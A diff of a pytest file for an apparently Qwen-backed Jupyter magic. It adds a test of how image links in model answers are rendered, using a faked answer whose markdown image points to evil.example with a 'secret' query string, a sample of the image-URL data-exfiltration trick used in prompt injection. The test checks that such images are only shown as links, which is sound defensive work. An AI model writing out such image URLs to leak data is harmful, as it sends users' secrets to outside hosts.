@@ -824,3 +824,24 @@ def test_a_long_open_tail_stays_safe_and_cheap_while_live() -> None:
     markdown_bundle(code, live=True)
     grown = markdown_bundle(code + "print(2)\n", live=True)["text/html"]
     assert grown.endswith("print(2)\n</code></pre>\n</div>")  # the newest lines inside the code block
+
+
+@pytest.mark.kernel
+def test_answer_images_in_a_real_cell(fresh) -> None:
+    """Through %%qwen: hosts the prompt named load, others are links; `show` loads them all."""
+    from fake_dashscope import Stream
+
+    answer = "Here: ![chart](https://mine.example/c.png) and ![leak](https://evil.example/x.png?q=secret)\n"
+    fresh.server.queue(Stream(text=answer))
+    run = fresh.run("%%qwen\nPlot the data at https://mine.example/data.csv")
+    html = "".join(run.data("text/html"))
+    assert '<img src="https://mine.example/c.png" alt="chart">' in html
+    assert "evil.example/x.png" in html and '<img src="https://evil.example' not in html
+    assert "🖼 image from evil.example — open" in html
+    fresh.run("%config QwenMagics.answer_images = 'show'")
+    fresh.server.queue(Stream(text=answer))
+    html = "".join(fresh.run("%%qwen\nAgain").data("text/html"))
+    assert html.count("<img ") == 2
+    fresh.run("%config QwenMagics.answer_images = 'link'")
+    wrong = fresh.run("%config QwenMagics.answer_images = 'sometimes'")
+    assert "answer_images" in wrong.error_text + wrong.stderr
